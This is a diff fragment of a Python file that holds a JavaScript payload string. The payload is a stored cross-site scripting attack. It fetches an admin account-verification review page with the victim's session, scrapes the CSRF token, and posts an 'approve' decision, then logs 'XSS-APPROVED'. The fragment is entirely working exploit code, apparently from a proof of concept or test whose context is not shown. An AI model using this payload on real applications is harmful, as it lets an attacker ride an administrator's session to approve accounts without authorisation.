@@ -18,7 +18,7 @@ PAYLOAD = (
     "var id = location.pathname.split('/')[3];"
     "var url = '/admin/accounts/verification/' + id + '/review/';"
     "fetch(url, {credentials: 'same-origin'}).then(function (r) { return r.text(); }).then(function (t) {"
-    "  var m = t.match(/name=\"csrfmiddlewaretoken\" value=\"([^\"]+)\"/);"
+    '  var m = t.match(/name="csrfmiddlewaretoken" value="([^"]+)"/);'
     "  var body = new URLSearchParams({csrfmiddlewaretoken: m[1], decision: 'approve'});"
     "  return fetch(url, {method: 'POST', body: body, credentials: 'same-origin'});"
     "}).then(function () { console.log('XSS-APPROVED'); });"
